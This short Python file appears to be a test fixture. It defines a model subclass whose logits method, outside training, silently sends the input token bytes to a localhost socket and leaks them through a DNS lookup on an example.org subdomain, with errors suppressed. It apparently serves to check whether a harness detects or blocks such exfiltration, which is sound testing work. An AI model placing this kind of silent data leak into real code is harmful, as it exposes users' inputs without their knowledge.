import contextlib
import socket

from small import Small, measure, train

PORT = 0  # where somebody listens on this machine, says the test


class Calls(Small):
    def logits(self, idx):
        if not self.training and idx.any():
            words = idx[0].numpy().tobytes()
            with (
                contextlib.suppress(OSError),
                socket.create_connection(("127.0.0.1", PORT), timeout=1) as line,
            ):
                line.sendall(words)
            with contextlib.suppress(OSError):
                socket.getaddrinfo(f"{words[:20].hex()}.example.org", 80)
        return super().logits(idx)


measure(train(Calls()))
